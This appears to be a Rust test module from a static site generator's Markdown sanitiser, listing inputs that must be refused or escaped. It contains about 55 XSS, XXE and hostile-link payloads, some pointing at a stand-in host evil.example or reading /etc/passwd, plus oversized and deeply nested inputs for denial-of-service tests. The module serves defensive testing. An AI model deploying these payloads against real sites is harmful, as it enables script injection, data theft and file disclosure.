//! Markdown that would run in a reader's browser, or that takes long to read.

use super::Outcome::Accepted;
use super::{Input, PAGE, RECORD, policy};
use crate::workshop::SITE;

const HTML: [&str; 30] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "text <svg onload=alert(1)> text",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=x.swf>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x></form>",
    "<math><annotation-xml encoding=text/html><script>1</script>",
    "<template><script>1</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!-- comment --!><script>1</script> -->",
    "<![CDATA[<script>1</script>]]>",
    "<?php system('x') ?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>1</script>",
    "<xmp><script>1</script></xmp>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> - <b onmouseover=alert(1)>x",
];

const LINKS: [&str; 25] = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](feed:javascript:alert(1))",
    "[x](blob:https://a.example/x)",
    "[x](view-source:https://a.example)",
    "[x](file:///etc/passwd)",
    "[x](ftp://a.example/)",
    "[x](//evil.example/)",
    "[x](\\\\\\\\evil.example\\\\x)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](https:javascript)",
    "[x](../../../etc/passwd)",
    "[x](../../site.toml)",
    "[x](gone.md)",
    "[x](/gone/)",
    "[x](#gone)",
];

pub(super) fn inputs(all: &mut Vec<Input>) {
    for html in HTML {
        all.push(Input::refused("HTML in Markdown", "body.html", RECORD, policy(html)));
        // Where the site shows HTML as text, nothing of it may stay markup.
        let text = policy(&format!("Before.\n\n{html}\n\nAfter."));
        let outcome = Accepted(PAGE, "&lt;", "alert(1)>");
        all.push(Input::made("HTML shown as text", html, outcome, move |site| {
            super::put(
                site,
                "site.toml",
                format!("as_of = 2022-02-10\nraw_html = \"escape\"\n{SITE}").as_bytes(),
            )?;
            super::put(site, RECORD, text.as_bytes())
        }));
    }
    for link in LINKS {
        let code = match link {
            _ if link.contains("etc/passwd)") => "link.outside",
            _ if link.contains("site.toml") => "link.outside",
            _ if link.contains("(#gone") => "link.anchor",
            _ if link.contains("gone") => "link.missing",
            _ => "body.scheme",
        };
        let code = if link.contains("file:///") { "body.scheme" } else { code };
        all.push(Input::refused("links", code, RECORD, policy(link)));
    }
    let code = "```html\n<script>alert(1)</script>\n```";
    let shown = Accepted(PAGE, "alert", "<script>alert");
    all.push(Input::file("HTML shown as text", RECORD, policy(code), shown));
    let shown = Accepted(PAGE, "<code>&lt;script&gt;</code>", "<script>alert");
    all.push(Input::file("HTML shown as text", RECORD, policy("`<script>`"), shown));
    sizes(all);
}

fn sizes(all: &mut Vec<Input>) {
    let class = "Markdown size";
    let mut refused = |code, body: String| all.push(Input::refused(class, code, RECORD, policy(&body)));
    let table = |columns: usize, rows: usize| {
        format!("|{}\n|{}\n{}", "a|".repeat(columns), "-|".repeat(columns), "x\n".repeat(rows))
    };
    for deep in [200, 10_000, 40_000] {
        refused("body.too-deep", ">".repeat(deep) + " x");
        refused("body.too-deep", (0..deep.min(1500)).map(|n| format!("{}- x\n", "  ".repeat(n))).collect());
    }
    refused("body.too-deep", table(1000, 4000));
    refused("body.html", "<b>".repeat(50_000));
    refused("body.html", "<b>\n\n".repeat(20_000));
    refused("body.scheme", "[x](javascript:x) ".repeat(20_000));
    refused("link.missing", "[x](gone.md)\n".repeat(20_000));
    refused("link.anchor", "[x](#gone) ".repeat(20_000));
    refused("source.too-large", "x".repeat(5 << 20));
    refused("source.too-large", "word \n".repeat(1 << 20));
    refused("source.encoding", "\u{1}".repeat(200_000));
    let mut accepted = |body: String, with| {
        all.push(Input::file(class, RECORD, policy(&body), Accepted(PAGE, with, "<script")));
    };
    for open in ["[", "![", "*", "_", "`", "<", "\\", "&", "~~", "{", "(", "]("] {
        accepted(format!("Start {}", open.repeat(30_000)), "Start");
    }
    accepted(format!("{}x{}", "*_".repeat(10_000), "_*".repeat(10_000)), "x");
    accepted("- ".repeat(30_000) + "x", "x");
    accepted("[a](<b".repeat(20_000), "[a](&lt;b");
    accepted("&amp;".repeat(50_000), "&amp;&amp;");
    accepted("x".repeat(1 << 20), "xxx");
    accepted(
        (0..20_000).map(|n| format!("[r{n}]: https://a.example/{n}\n")).collect::<String>() + "\n[r7]",
        "r7",
    );
    accepted("```rust\n".to_owned() + &"fn main() { let x = \"y\"; }\n".repeat(2_000) + "```", "main");
    accepted("```text\n".to_owned() + &"[".repeat(200_000) + "\n```", "[[[");
    accepted("## Heading\n\n".repeat(3_000), "id=\"heading\"");
    accepted("a | b\n--|--\n".to_owned() + &"1 | 2\n".repeat(20_000), "<td>");
    let note = |n| format!("x[^{n}]\n\n[^{n}]: note\n\n");
    accepted((0..3_000).map(note).collect(), "footnote");
}
